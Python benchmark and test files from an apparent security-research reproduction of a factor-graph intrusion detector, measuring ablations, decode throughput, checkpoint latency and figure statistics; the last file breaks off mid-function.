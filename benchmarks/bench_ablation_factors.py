"""A1 -- ablation of the factor families (DESIGN.md §5).

Disables each factor family of the preemption model in turn --
pattern factors (the S1..S43 evidence), transition factors (state
persistence), and learned observation factors -- and measures the
effect on recall, preemption rate, and false positives on held-out
incidents.  This quantifies the design choices the paper attributes the
model's preemption ability to (sequence matching per Insight 1/2,
conditional-probability weighting per Remark 2).
"""

from __future__ import annotations

from repro.core import AttackTagger, EvaluationExample, compare_detectors, train_from_incidents
from repro.incidents import DEFAULT_CATALOGUE


def test_ablation_of_factor_families(benchmark, corpus, benign_sequences):
    train_incidents, test_incidents = corpus.chronological_split(0.7)
    parameters = train_from_incidents(
        [i.sequence for i in train_incidents],
        benign_sequences[:120],
        patterns=list(DEFAULT_CATALOGUE),
    )
    examples = [
        EvaluationExample(i.sequence, True, i.incident_id) for i in test_incidents
    ] + [
        EvaluationExample(s, False, f"benign-{idx}")
        for idx, s in enumerate(benign_sequences[120:])
    ]
    catalogue = list(DEFAULT_CATALOGUE)

    variants = {
        "full_model": AttackTagger(parameters, patterns=catalogue),
        "no_patterns": AttackTagger(parameters.without_patterns(), patterns=[]),
        "no_transitions": AttackTagger(parameters.without_transitions(), patterns=catalogue),
        "no_learned_observations": AttackTagger(
            parameters.without_observations(), patterns=catalogue
        ),
    }

    table = benchmark.pedantic(
        lambda: compare_detectors(variants, examples), rounds=1, iterations=1
    )

    print("\nAblation of factor families (held-out incidents)")
    print(f"  {'variant':<26} {'recall':>7} {'preempt':>8} {'fpr':>6} {'f1':>6}")
    for name, row in table.items():
        print(f"  {name:<26} {row['recall']:>7.3f} {row['preemption_rate']:>8.3f} "
              f"{row['false_positive_rate']:>6.3f} {row['f1']:>6.3f}")

    full = table["full_model"]
    # The full model is the best or tied-best preemptor.
    for name, row in table.items():
        assert full["preemption_rate"] >= row["preemption_rate"] - 1e-9, name
    # Removing the learned observation factors hurts the most (Remark 2):
    # without per-alert conditional probabilities the model loses precision
    # and/or recall.
    degraded = table["no_learned_observations"]
    assert (degraded["f1"] <= full["f1"] + 1e-9)
    # The full model remains a strong detector in absolute terms.
    assert full["recall"] > 0.9
    assert full["false_positive_rate"] <= 0.2
