"""Cross-entity batched decode: stacked kernel vs per-alert streaming.

A sub-batch touching N entities pays N small-matrix numpy dispatches per
semiring under ``engine="streaming"`` -- interpreter overhead, not
arithmetic, dominates once the amortised window engine (PR 3) removed
the O(W) work.  ``engine="batched"`` gathers the sub-batch into
``(N, K)`` / ``(N, K, K)`` stacks and advances every entity with one
broadcast step-matrix build plus one ``(N, K, K, K)`` reduce per
semiring (:mod:`repro.core.batch_kernel`), with log-depth tree scans
for the window flips and bonus-relocation refolds.  Detections are
bit-identical to ``streaming`` (suite: ``tests/test_batch_kernel.py``;
oracle: the full engine x shards x backend x driver matrix).

This benchmark measures saturated steady-state alerts/sec over
N ∈ {1, 8, 64, 512} entities x ``max_window`` ∈ {16, 64} on a
background-only stream (every entity undetected and window-saturated,
zero pattern-cursor churn -- the kernel's honest steady state), plus a
reconnaissance-mix cell where shared per-alert Python bookkeeping
(cursor rescans, greedy matching) caps the achievable ratio.

Run as a script to (re)record ``BENCH_batchdecode.json``::

    PYTHONPATH=src python benchmarks/bench_batch_decode.py

CI runs the quick regression gate -- batched == streaming equivalence,
the batched/streaming *ratio* floors at N=512 and N=64 (same-host
ratios need no hardware calibration), and the N=1 no-regression bound::

    PYTHONPATH=src python benchmarks/bench_batch_decode.py --check
"""

from __future__ import annotations

import argparse
import json
import sys
import time
from pathlib import Path

import numpy as np

REPO_ROOT = Path(__file__).resolve().parent.parent
RESULT_PATH = REPO_ROOT / "BENCH_batchdecode.json"

if __name__ == "__main__":  # pragma: no cover - script mode import path
    sys.path.insert(0, str(REPO_ROOT / "src"))

from repro.core import AttackTagger
from repro.core.alerts import Alert, DEFAULT_VOCABULARY
from repro.core.states import AttackStage
from repro.incidents import DEFAULT_CATALOGUE

#: Pure-background names: entities stay undetected and pattern cursors
#: never advance, so the measurement isolates the decode kernel.
BACKGROUND_NAMES = [
    spec.name for spec in DEFAULT_VOCABULARY if spec.stage == AttackStage.BACKGROUND
]
#: Background + reconnaissance: still undetected, but cursor churn
#: (partial-match bonuses relocating on eviction) exercises the tree
#: -scan refold path and the shared Python bookkeeping.
MIX_NAMES = [
    spec.name
    for spec in DEFAULT_VOCABULARY
    if spec.stage in (AttackStage.BACKGROUND, AttackStage.RECONNAISSANCE)
]


def build_stream(
    n_entities: int, length: int, *, names: list[str] | None = None, seed: int = 7
) -> list[Alert]:
    """Round-robin multi-entity stream of undetectable alerts."""
    names = BACKGROUND_NAMES if names is None else names
    rng = np.random.default_rng(seed)
    drawn = [names[i] for i in rng.integers(0, len(names), size=length)]
    return [
        Alert(float(i), name, f"host:bench-{i % n_entities}")
        for i, name in enumerate(drawn)
    ]


def measure_saturated_rate(
    *,
    engine: str,
    n_entities: int,
    max_window: int,
    tail_alerts: int,
    names: list[str] | None = None,
    seed: int = 7,
) -> float:
    """Alerts/sec once every entity's window is saturated (warm untimed)."""
    warm = n_entities * (max_window + 1)
    stream = build_stream(n_entities, warm + tail_alerts, names=names, seed=seed)
    tagger = AttackTagger(
        patterns=list(DEFAULT_CATALOGUE), max_window=max_window, engine=engine
    )
    chunk = max(n_entities, 4)
    tagger.observe_many(stream[:warm])
    tail = stream[warm:]
    started = time.perf_counter()
    position = 0
    while position < len(tail):
        tagger.observe_many(tail[position : position + chunk])
        position += chunk
    elapsed = time.perf_counter() - started
    assert not tagger.detections, "benchmark stream must stay undetected"
    return len(tail) / elapsed


def check_equivalence(*, max_window: int = 5, alerts: int = 600) -> None:
    """Assert batched == streaming detections, bit for bit."""
    rng = np.random.default_rng(13)
    all_names = [spec.name for spec in DEFAULT_VOCABULARY]
    entities = [f"host:eq-{i}" for i in range(9)]
    stream = [
        Alert(
            float(i),
            all_names[rng.integers(len(all_names))],
            entities[rng.integers(len(entities))],
        )
        for i in range(alerts)
    ]
    streaming = AttackTagger(
        patterns=list(DEFAULT_CATALOGUE), max_window=max_window, engine="streaming"
    )
    batched = AttackTagger(
        patterns=list(DEFAULT_CATALOGUE), max_window=max_window, engine="batched"
    )
    expected = []
    for position, alert in enumerate(stream):
        detection = streaming.observe(alert)
        if detection is not None:
            expected.append((position, detection))
    got = []
    for base in range(0, len(stream), 32):
        for position, detection in batched.observe_batch_indexed(
            stream[base : base + 32]
        ):
            got.append((base + position, detection))
    assert len(expected) == len(got), "detection count mismatch"
    for (ps, ds), (pb, db) in zip(expected, got):
        assert ps == pb, "trigger position mismatch"
        assert ds.confidence == db.confidence, "confidence not bit-identical"
        assert ds.state_trajectory == db.state_trajectory, "trajectory mismatch"
        assert ds.matched_patterns == db.matched_patterns, "patterns mismatch"


def run_benchmark(
    *,
    entity_counts: tuple[int, ...] = (1, 8, 64, 512),
    windows: tuple[int, ...] = (16, 64),
    tail_alerts: int = 16_000,
) -> dict:
    """Full measurement set behind ``BENCH_batchdecode.json``."""
    results: dict = {
        "benchmark": "batch_decode",
        "units": "alerts_per_second",
        "notes": (
            "Saturated steady state, N round-robin entities, background-"
            "only stream (undetected, zero cursor churn).  'streaming' "
            "advances one entity per numpy dispatch; 'batched' advances "
            "the whole sub-batch with stacked (N, K, K) semiring updates "
            "and tree-scan window maintenance.  Detections are bit-"
            "identical (tests/test_batch_kernel.py).  recon_mix_64_64 "
            "adds reconnaissance names: pattern-cursor churn is shared "
            "per-alert Python bookkeeping, so the ratio compresses."
        ),
        "tail_alerts": tail_alerts,
        "cells": {},
    }
    def best_pair(n_entities: int, window: int, names=None) -> tuple[float, float]:
        # Interleaved best-of-2 per engine: the host's frequency jitter
        # moves whole runs, so alternating engines and keeping each
        # engine's best sample makes the *ratio* stable.
        streaming = batched = 0.0
        for _ in range(2):
            streaming = max(
                streaming,
                measure_saturated_rate(
                    engine="streaming", n_entities=n_entities, max_window=window,
                    tail_alerts=min(tail_alerts, 8_000), names=names,
                ),
            )
            batched = max(
                batched,
                measure_saturated_rate(
                    engine="batched", n_entities=n_entities, max_window=window,
                    tail_alerts=tail_alerts, names=names,
                ),
            )
        return streaming, batched

    for window in windows:
        for n_entities in entity_counts:
            streaming, batched = best_pair(n_entities, window)
            results["cells"][f"W{window}/N{n_entities}"] = {
                "streaming": round(streaming, 1),
                "batched": round(batched, 1),
                "speedup": round(batched / streaming, 2),
            }
    mix_streaming, mix_batched = best_pair(64, 64, names=MIX_NAMES)
    results["recon_mix_64_64"] = {
        "streaming": round(mix_streaming, 1),
        "batched": round(mix_batched, 1),
        "speedup": round(mix_batched / mix_streaming, 2),
    }
    results["speedup_512_64"] = results["cells"]["W64/N512"]["speedup"]
    results["speedup_64_64"] = results["cells"]["W64/N64"]["speedup"]
    results["ratio_1_64"] = results["cells"]["W64/N1"]["speedup"]
    return results


def check_regression(
    baseline_path: Path,
    *,
    floor_512: float = 3.0,
    floor_64: float = 2.0,
    single_entity_floor: float = 0.9,
) -> int:
    """Fail (non-zero) if the stacked kernel loses its cross-entity edge.

    Same-host batched/streaming throughput *ratios*, so no hardware
    calibration: the N=512 cell must hold ``floor_512`` (the headline
    vectorisation win), N=64 must hold ``floor_64``, and the N=1 cell
    -- which takes the scalar fallback below the minimum stacking
    batch -- must stay within ``1 - single_entity_floor`` of streaming
    (best-of-3 interleaved, absorbing host timing noise).
    """
    check_equivalence()
    print("equivalence: batched == streaming on detection-heavy stream: OK")

    def best_ratio(n_entities: int, tail: int) -> tuple[float, float, float]:
        # Interleaved best-of-3 per engine: whole runs move together
        # with host frequency jitter, so per-engine bests make the
        # ratio stable where a single back-to-back pair is not.
        streaming = batched = 0.0
        for _ in range(3):
            streaming = max(
                streaming,
                measure_saturated_rate(
                    engine="streaming", n_entities=n_entities,
                    max_window=64, tail_alerts=tail,
                ),
            )
            batched = max(
                batched,
                measure_saturated_rate(
                    engine="batched", n_entities=n_entities,
                    max_window=64, tail_alerts=tail,
                ),
            )
        return streaming, batched, batched / streaming

    streaming_512, batched_512, speedup_512 = best_ratio(512, 6_000)
    print(f"N=512 W=64 streaming: {streaming_512:.0f} alerts/s")
    print(f"N=512 W=64 batched:   {batched_512:.0f} alerts/s")
    print(f"N=512 speedup:        {speedup_512:.2f}x (floor {floor_512}x)")
    streaming_64, batched_64, speedup_64 = best_ratio(64, 6_000)
    print(f"N=64  W=64 streaming: {streaming_64:.0f} alerts/s")
    print(f"N=64  W=64 batched:   {batched_64:.0f} alerts/s")
    print(f"N=64  speedup:        {speedup_64:.2f}x (floor {floor_64}x)")
    _, _, ratio_1 = best_ratio(1, 3_000)
    print(f"N=1   W=64 ratio:     {ratio_1:.2f}x (floor {single_entity_floor}x)")
    if baseline_path.exists():
        committed = json.loads(baseline_path.read_text())
        print(f"committed speedup_512_64: {committed.get('speedup_512_64')}x")
        print(f"committed speedup_64_64:  {committed.get('speedup_64_64')}x")
    failed = False
    if speedup_512 < floor_512:
        print(f"FAIL: N=512 cross-entity speedup below {floor_512}x")
        failed = True
    if speedup_64 < floor_64:
        print(f"FAIL: N=64 cross-entity speedup below {floor_64}x")
        failed = True
    if ratio_1 < single_entity_floor:
        print(f"FAIL: N=1 batched regressed beyond {1 - single_entity_floor:.0%}")
        failed = True
    if failed:
        return 1
    print("OK")
    return 0


# -- pytest entry points ------------------------------------------------------

def test_batched_kernel_beats_streaming(benchmark):
    """Smoke version: >= 1.5x over per-alert streaming at N=64, W=16."""

    def _run():
        return measure_saturated_rate(
            engine="batched", n_entities=64, max_window=16, tail_alerts=2_000
        )

    batched_rate = benchmark.pedantic(_run, rounds=3, iterations=1)
    streaming_rate = measure_saturated_rate(
        engine="streaming", n_entities=64, max_window=16, tail_alerts=2_000
    )
    assert batched_rate >= 1.5 * streaming_rate, (
        f"batched {batched_rate:.0f} alerts/s vs streaming {streaming_rate:.0f} alerts/s"
    )


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument(
        "--check",
        action="store_true",
        help="quick regression gate (equivalence + batched/streaming ratios)",
    )
    parser.add_argument(
        "--output", type=Path, default=RESULT_PATH, help="where to write results"
    )
    args = parser.parse_args(argv)
    if args.check:
        return check_regression(args.output)
    results = run_benchmark()
    args.output.write_text(json.dumps(results, indent=2) + "\n")
    print(json.dumps(results, indent=2))
    print(f"wrote {args.output}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
