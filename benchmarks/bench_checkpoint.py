"""Checkpoint write/restore latency as a function of pipeline state size.

A checkpoint is taken on the live ingestion path (between batches), so
its latency is an availability cost: the pipeline observes no alerts
while the snapshot is cut.  This benchmark grows per-entity decoder
state by driving mixed attack streams over increasing entity counts
and records, per scale:

* ``checkpoint_bytes`` -- the serialized snapshot size,
* ``write_ms`` / ``restore_ms`` -- wall latency of
  ``TestbedPipeline.checkpoint`` (canonical pickle + fsync + rename)
  and ``TestbedPipeline.restore``,
* ``write_mb_per_s`` -- the headline throughput the CI gate floors.

Run as a script to (re)record ``BENCH_checkpoint.json`` at the repo
root::

    PYTHONPATH=src python benchmarks/bench_checkpoint.py

CI runs the regression gate, which re-measures the mid scale, asserts
the restored pipeline re-checkpoints byte-identically (the crash-safety
contract), and fails on a >4x throughput regression against the
committed baseline::

    PYTHONPATH=src python benchmarks/bench_checkpoint.py --check
"""

from __future__ import annotations

import argparse
import json
import os
import sys
import tempfile
import time
from pathlib import Path

import numpy as np

REPO_ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO_ROOT / "src"))

from repro.core import AttackTagger  # noqa: E402
from repro.core.alerts import Alert  # noqa: E402
from repro.incidents import DEFAULT_CATALOGUE  # noqa: E402
from repro.testbed import TestbedPipeline  # noqa: E402

RESULT_PATH = REPO_ROOT / "BENCH_checkpoint.json"

#: Seed-pinned workload: entity counts the state size scales with.
BASE_SEED = 0
SCALES = (25, 100, 400)
ALERTS_PER_ENTITY = 12
#: The scale the --check gate re-measures.
CHECK_SCALE = 100

#: --check fails below this fraction of the committed write_mb_per_s.
REGRESSION_FLOOR = 0.25


def _stream(n_entities: int) -> list[Alert]:
    rng = np.random.default_rng(BASE_SEED)
    patterns = list(DEFAULT_CATALOGUE)
    queues = {
        f"user:u{index:04d}": list(patterns[index % len(patterns)].names)
        for index in range(n_entities)
    }
    entities = list(queues)
    stream: list[Alert] = []
    timestamp = 0.0
    for _ in range(n_entities * ALERTS_PER_ENTITY):
        entity = entities[int(rng.integers(0, len(entities)))]
        queue = queues[entity]
        if not queue:
            queue.extend(patterns[int(rng.integers(0, len(patterns)))].names)
        timestamp += float(rng.uniform(0.05, 1.0))
        stream.append(Alert(timestamp, queue.pop(0), entity))
    return stream


def _pipeline() -> TestbedPipeline:
    return TestbedPipeline(
        detectors={"factor_graph": AttackTagger(patterns=list(DEFAULT_CATALOGUE))}
    )


def measure_scale(n_entities: int) -> dict:
    """Checkpoint + restore latency for one state size; asserts the
    restored pipeline re-checkpoints byte-identically."""
    stream = _stream(n_entities)
    with tempfile.TemporaryDirectory() as workdir:
        original = Path(workdir) / "bench.ckpt"
        again = Path(workdir) / "again.ckpt"
        with _pipeline() as pipeline:
            pipeline.ingest_alerts(stream)
            started = time.perf_counter()
            size = pipeline.checkpoint(original)
            write_seconds = time.perf_counter() - started
        with _pipeline() as restored:
            started = time.perf_counter()
            restored.restore(original)
            restore_seconds = time.perf_counter() - started
            restored.checkpoint(again)
            identical = original.read_bytes() == again.read_bytes()
    return {
        "entities": n_entities,
        "alerts": len(stream),
        "checkpoint_bytes": size,
        "write_ms": round(write_seconds * 1e3, 3),
        "restore_ms": round(restore_seconds * 1e3, 3),
        "write_mb_per_s": round(size / max(write_seconds, 1e-9) / 1e6, 2),
        "recheckpoint_identical": identical,
    }


def record() -> dict:
    result = {
        "benchmark": "checkpoint_latency_vs_state_size",
        "units": "milliseconds_and_bytes_per_scale",
        "notes": (
            "Serial single-shard pipeline driven over seed-pinned mixed "
            "attack streams; per scale the full snapshot (all per-entity "
            "decoder windows, routing/mirror/responder state) is cut with "
            "TestbedPipeline.checkpoint (canonical pickle, fsync, atomic "
            "rename) and restored into a fresh pipeline. "
            "recheckpoint_identical asserts the byte-identity contract."
        ),
        "cores_available": len(os.sched_getaffinity(0)),
        "workload": {
            "base_seed": BASE_SEED,
            "scales": list(SCALES),
            "alerts_per_entity": ALERTS_PER_ENTITY,
        },
        "measurements": [measure_scale(scale) for scale in SCALES],
    }
    RESULT_PATH.write_text(json.dumps(result, indent=2) + "\n")
    print(json.dumps(result, indent=2))
    return result


def check() -> int:
    if not RESULT_PATH.exists():
        print(f"missing baseline {RESULT_PATH}; "
              "run this script without --check to record one")
        return 1
    baseline = json.loads(RESULT_PATH.read_text())
    committed = {
        point["entities"]: point for point in baseline["measurements"]
    }
    if CHECK_SCALE not in committed:
        print(f"FAIL: committed baseline has no scale {CHECK_SCALE}")
        return 1
    measurement = measure_scale(CHECK_SCALE)
    print(json.dumps(measurement, indent=2))
    if not measurement["recheckpoint_identical"]:
        print("FAIL: restore -> checkpoint is not byte-identical")
        return 1
    reference_rate = committed[CHECK_SCALE]["write_mb_per_s"]
    floor = REGRESSION_FLOOR * reference_rate
    if measurement["write_mb_per_s"] < floor:
        print(
            f"FAIL: checkpoint write {measurement['write_mb_per_s']:.2f} MB/s "
            f"below regression floor {floor:.2f} MB/s "
            f"({REGRESSION_FLOOR:.0%} of committed {reference_rate:.2f} MB/s)"
        )
        return 1
    print(
        f"OK: {measurement['write_mb_per_s']:.2f} MB/s >= floor "
        f"{floor:.2f} MB/s; re-checkpoint byte-identical"
    )
    return 0


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument(
        "--check",
        action="store_true",
        help="quick regression gate against the committed BENCH_checkpoint.json",
    )
    args = parser.parse_args(argv)
    if args.check:
        return check()
    record()
    return 0


if __name__ == "__main__":
    sys.exit(main())
