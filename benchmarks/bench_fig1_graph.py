"""F1 -- Fig. 1: connection graph of mass scanners, attackers and legitimate traffic.

Rebuilds the Fig. 1 graph from the same inputs the paper used (the
black-hole router's scan records for one hour, sampled to the 10,000
most frequent scans of the dominant scanner; legitimate Zeek
connections; one real attack of two connections), lays it out with the
force-directed algorithm, annotates attacker/scanner nodes, and checks
the structural properties the figure illustrates.
"""

from __future__ import annotations

import numpy as np

from repro.attacks import MassScanEmulator, PAPER_FIGURE_SAMPLE
from repro.telemetry.zeek import ZeekMonitor
from repro.testbed import BlackHoleRouter
from repro.viz import (
    ConnectionGraphBuilder,
    GraphAnnotator,
    ROLE_ATTACKER,
    ROLE_SCANNER,
    export_dot,
    hub_centrality_check,
    multilevel_layout,
)

#: The hour of scans the paper's BHR recorded (modelled statistically; the
#: figure itself only renders the 10,000-scan sample plus context).
MODELLED_SCANS = 26_850_000
DOMINANT_SCANNER = "103.102.166.28"
ATTACKER_IP = "132.17.9.3"
ATTACK_TARGETS = ("141.142.10.20", "141.142.10.21")


def _build_figure_graph() -> tuple[ConnectionGraphBuilder, BlackHoleRouter]:
    emulator = MassScanEmulator(seed=42)
    # Generate the sampled scanner traffic at figure scale (10,000 scans of
    # the dominant scanner) plus a tail of smaller scanners.
    profiles = emulator.default_profiles(
        total_scans=14_000, dominant_fraction=float(PAPER_FIGURE_SAMPLE) / 14_000,
        dominant_ip=DOMINANT_SCANNER,
    )
    records = emulator.generate_scan_records(profiles, duration_seconds=3_600.0)
    sample = emulator.sample_most_frequent(records, sample_size=PAPER_FIGURE_SAMPLE)
    tail = [r for r in records if r.source_ip != DOMINANT_SCANNER]

    # The router models the full 26.85M-scan hour via its counters.
    router = BlackHoleRouter()
    router.record_scans(records)
    router.scan_counter[DOMINANT_SCANNER] += MODELLED_SCANS - router.scan_counter[DOMINANT_SCANNER]

    # Legitimate Zeek connections (Fig. 1 part D).
    zeek = ZeekMonitor()
    rng = np.random.default_rng(9)
    for i in range(2_000):
        zeek.record_connection(
            float(i), f"{rng.integers(50, 200)}.{rng.integers(1, 250)}.{rng.integers(1, 250)}.{rng.integers(1, 250)}",
            int(rng.integers(1024, 65000)),
            f"141.142.{rng.integers(1, 250)}.{rng.integers(1, 250)}", 443,
            conn_state="SF", service="https",
        )

    builder = ConnectionGraphBuilder()
    builder.add_scan_records(sample + tail, dominant_scanner=DOMINANT_SCANNER)
    builder.add_connections(zeek.conn_records())
    builder.add_attack(ATTACKER_IP, list(ATTACK_TARGETS))
    return builder, router


def test_fig1_graph_structure_and_layout(benchmark):
    builder, router = _build_figure_graph()
    stats = builder.stats()

    layout = benchmark.pedantic(
        lambda: multilevel_layout(builder.graph, iterations=15, refine_iterations=4, seed=3),
        rounds=1, iterations=1,
    )

    annotator = GraphAnnotator(builder)
    summary = annotator.annotate(router=router, known_attacker_ips=[ATTACKER_IP])

    print("\nFig. 1: connection graph")
    print(f"  nodes={stats.nodes}  edges={stats.edges} "
          f"(paper: 29,075 nodes / 27,336 edges at full sample)")
    print(f"  scanner edges={stats.scanner_edges}  legitimate={stats.legitimate_edges} "
          f"attack={stats.attack_edges}")
    print(f"  annotated roles: {summary}")
    print(f"  modelled scans in the hour: {sum(router.scan_counter.values()):,} "
          f"(paper: 26,850,000)")

    # Same order of magnitude as the published rendering.
    assert 10_000 <= stats.nodes <= 40_000
    assert 10_000 <= stats.edges <= 40_000
    # The attack is two edges hidden in tens of thousands (part B).
    assert stats.attack_edges == 2
    assert stats.attack_edges / stats.edges < 1e-3
    # Role annotation identifies the dominant scanner and the attacker.
    assert DOMINANT_SCANNER in builder.nodes_with_role(ROLE_SCANNER)
    assert ATTACKER_IP in builder.nodes_with_role(ROLE_ATTACKER)
    # Force-directed layout puts the mass scanner at the centre of its disc.
    assert hub_centrality_check(layout, builder.graph, DOMINANT_SCANNER) < 0.3
    # The DOT excerpt has the format shown in §II.B.
    dot = export_dot(builder, max_edges=10)
    assert dot.startswith("digraph {") and "->" in dot
