"""F2 -- Fig. 2: daily alert volumes observed by NCSA's monitors.

Regenerates the daily event-count series for a sample window and checks
the published statistics: 94,238 alerts/day on average with a standard
deviation of 23,547, roughly 80 K of which are repeated port and
vulnerability scans (Insight 3).
"""

from __future__ import annotations

from repro.analysis import (
    PAPER_DAILY_MEAN,
    PAPER_DAILY_STD,
    render_daily_series,
    scan_fraction_of_daily_volume,
    summarize_daily_volumes,
)
from repro.incidents import IncidentGenerator


def test_fig2_daily_alert_volume(benchmark):
    generator = IncidentGenerator(seed=13)

    def _series():
        return generator.daily_volume_breakdown(days=120)

    breakdown = benchmark(_series)
    stats = summarize_daily_volumes(breakdown["total"], scan_volumes=breakdown["scans"])

    print("\nFig. 2: daily alert volumes (120-day window)")
    print(f"  mean={stats.mean:,.0f}/day (paper {PAPER_DAILY_MEAN:,})")
    print(f"  std ={stats.std:,.0f}/day (paper {PAPER_DAILY_STD:,})")
    print(f"  scan share={scan_fraction_of_daily_volume(stats.mean, stats.scan_mean):.2f} "
          f"(paper ~0.85: 80K of 94K)")
    print(render_daily_series(breakdown["total"], width=60, height=8))

    assert abs(stats.mean - PAPER_DAILY_MEAN) <= 0.10 * PAPER_DAILY_MEAN
    assert abs(stats.std - PAPER_DAILY_STD) <= 0.40 * PAPER_DAILY_STD
    assert stats.scan_mean is not None
    assert 0.6 <= scan_fraction_of_daily_volume(stats.mean, stats.scan_mean) <= 0.95
    assert stats.minimum > 0
