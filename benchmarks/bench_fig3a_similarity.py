"""F3a -- Fig. 3a: CDF of pairwise attack similarity.

Computes the pairwise Jaccard similarity of alert sets across all
incidents of the corpus and the resulting CDF, and checks the paper's
headline claim: more than 95 % of attack pairs share at most 33 % of
their attack-indicative alerts.
"""

from __future__ import annotations

import numpy as np

from repro.analysis import (
    PAPER_FRACTION_BELOW,
    PAPER_SIMILARITY_THRESHOLD,
    corpus_similarity_study,
)


def test_fig3a_attack_similarity_cdf(benchmark, corpus):
    result = benchmark(lambda: corpus_similarity_study(corpus))

    print("\nFig. 3a: pairwise attack similarity")
    print(f"  attacks compared: {result.num_attacks}")
    print(f"  mean similarity : {result.mean_similarity:.3f}")
    print(f"  median          : {result.median_similarity:.3f}")
    print(f"  P(similarity <= {PAPER_SIMILARITY_THRESHOLD:.2f}) = "
          f"{result.fraction_below_threshold:.3f}  (paper: > {PAPER_FRACTION_BELOW})")
    # A few CDF points for the plotted curve.
    for threshold in (0.1, 0.2, 0.33, 0.5, 0.8):
        print(f"    CDF({threshold:.2f}) = {result.cdf_at(threshold):.3f}")

    assert result.num_attacks == len(corpus)
    assert result.fraction_below_threshold >= PAPER_FRACTION_BELOW
    assert np.all(np.diff(result.cdf_fractions) >= 0)
    assert result.cdf_at(1.0) == 1.0
