"""F3b -- Fig. 3b: frequency of the common alert sequences S1..S43.

Mines the corpus for the recurring alert-sequence catalogue and checks
the published properties: 43 patterns, the most frequent seen 14 times,
lengths between two and fourteen alerts, and the 60.08 % prevalence of
the download/compile/erase motif.
"""

from __future__ import annotations

from repro.analysis import PAPER_MAX_FREQUENCY, PAPER_NUM_PATTERNS, catalogue_frequency_study
from repro.incidents import DEFAULT_CATALOGUE, download_compile_erase_prevalence


def test_fig3b_common_sequence_frequencies(benchmark, corpus):
    result = benchmark(lambda: catalogue_frequency_study(corpus, DEFAULT_CATALOGUE))
    counts = result.counts_in_order(DEFAULT_CATALOGUE)
    prevalence = download_compile_erase_prevalence(corpus.alert_name_sequences())

    print("\nFig. 3b: count of common alert sequences")
    print(f"  patterns: {len(result.histogram)} (paper: {PAPER_NUM_PATTERNS})")
    print(f"  most frequent: {result.most_frequent_pattern} seen {result.max_frequency} times "
          f"(paper: S1, {PAPER_MAX_FREQUENCY})")
    print(f"  length range: {result.length_range} (paper: 2-14)")
    print(f"  download/compile/erase prevalence: {prevalence * 100:.2f}% (paper: 60.08%)")
    bars = " ".join(str(c) for c in counts[:20])
    print(f"  first 20 bar heights: {bars}")

    assert len(result.histogram) == PAPER_NUM_PATTERNS
    assert result.max_frequency == PAPER_MAX_FREQUENCY
    assert result.most_frequent_pattern == "S1"
    assert result.length_range == (2, 14)
    assert abs(prevalence - 0.6008) < 0.02
    # Every pattern in the catalogue is represented at least once.
    assert min(counts) >= 1
