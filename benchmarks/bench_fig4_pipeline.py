"""F4 -- Fig. 4: the end-to-end testbed workflow.

Drives a mixture of attack and benign traffic through the assembled
pipeline (mirror -> normalisation -> alert filtering -> detection ->
response/BHR) and checks the workflow behaviour Fig. 4 depicts: scan
noise is filtered before detection, the attack is detected, the
attacker's IP is null-routed, and operators are notified.
"""

from __future__ import annotations

from repro.attacks import MassScanEmulator, RansomwareScenario, ReplayEngine
from repro.core import AttackTagger
from repro.incidents import DEFAULT_CATALOGUE, IncidentGenerator
from repro.testbed import Honeypot, TestbedPipeline
from repro.attacks.ransomware import INITIAL_ATTACKER


def _build_traffic(honeypot):
    """Mixture of attacks and benign traffic (the Fig. 4 input arrow)."""
    scenario = RansomwareScenario(honeypot)
    attack = scenario.run_honeypot_capture(start_time=50_000.0)
    emulator = MassScanEmulator(seed=12)
    scan_records = emulator.generate_scan_records(
        emulator.default_profiles(total_scans=4_000), start_time=0.0, duration_seconds=80_000.0
    )
    scan_alerts = emulator.to_alerts(scan_records)
    benign = IncidentGenerator(seed=41).generate_benign_sequences(40)
    benign_alerts = ReplayEngine.sequences_to_stream(benign)
    return ReplayEngine.interleave(attack.alerts, scan_alerts, benign_alerts), scan_records


def test_fig4_testbed_workflow(benchmark, trained_parameters):
    honeypot = Honeypot()
    traffic, scan_records = _build_traffic(honeypot)

    def _run():
        pipeline = TestbedPipeline(
            detectors={"factor_graph": AttackTagger(trained_parameters,
                                                    patterns=list(DEFAULT_CATALOGUE))},
            honeypot=honeypot,
        )
        # The black-hole router sees the raw scanning directly (Fig. 4's
        # border-router arrow), in parallel with the mirrored alert path.
        pipeline.router.record_scans(scan_records)
        pipeline.ingest_alerts(traffic)
        pipeline.block_top_scanners(now=traffic[-1].timestamp, min_scans=500)
        return pipeline

    pipeline = benchmark.pedantic(_run, rounds=1, iterations=1)
    summary = pipeline.summary()

    print("\nFig. 4: testbed workflow counters")
    for key, value in summary.items():
        if isinstance(value, dict):
            detail = ", ".join(f"{stage}={seconds:.3f}s" for stage, seconds in value.items())
            print(f"  {key:<26} {detail}")
        else:
            print(f"  {key:<26} {value:,.2f}")

    # Alert filtering removes the bulk of the scan noise before detection.
    assert summary["filtered_alerts"] < summary["normalized_alerts"] * 0.6
    # The ransomware entity is detected and the response path fired.
    assert summary["detections"] >= 1
    assert summary["notifications"] >= 1
    # The attacker's address is null-routed via the BHR API at detection time.
    attacker_blocks = [b for b in pipeline.router.history if b.source_ip == INITIAL_ATTACKER]
    assert attacker_blocks, "the ransomware source must be null-routed"
    assert pipeline.router.is_blocked(INITIAL_ATTACKER, now=attacker_blocks[0].created_at + 1.0)
    # Mass scanners are handled by the automated BHR path, not operator pages.
    assert summary["blocked_sources"] >= 2
