"""F5 -- §V case study / Fig. 5: ransomware preemption with 12-day lead.

Reproduces the case study end to end: the ransomware family is captured
in the honeypot, the factor-graph model detects it during the staging /
command-and-control phase (before any damage-stage alert), operators
are notified, and twelve days later the equivalent production incident
is replayed -- the detection lead over that incident is the paper's
12-day early warning.  Also exercises the Fig. 5 lateral-movement
payload against the simulated cluster.
"""

from __future__ import annotations

from repro.attacks import (
    LATERAL_MOVEMENT_SCRIPT,
    RansomwareScenario,
    ReplayEngine,
    TWELVE_DAYS_SECONDS,
    alerts_to_names,
)
from repro.core import AttackTagger, CriticalAlertDetector, evaluate_preemption
from repro.core.sequences import AlertSequence
from repro.incidents import DEFAULT_CATALOGUE
from repro.testbed import Honeypot


def test_fig5_ransomware_preemption(benchmark, trained_parameters, topology):
    honeypot = Honeypot()
    scenario = RansomwareScenario(honeypot, topology=topology)

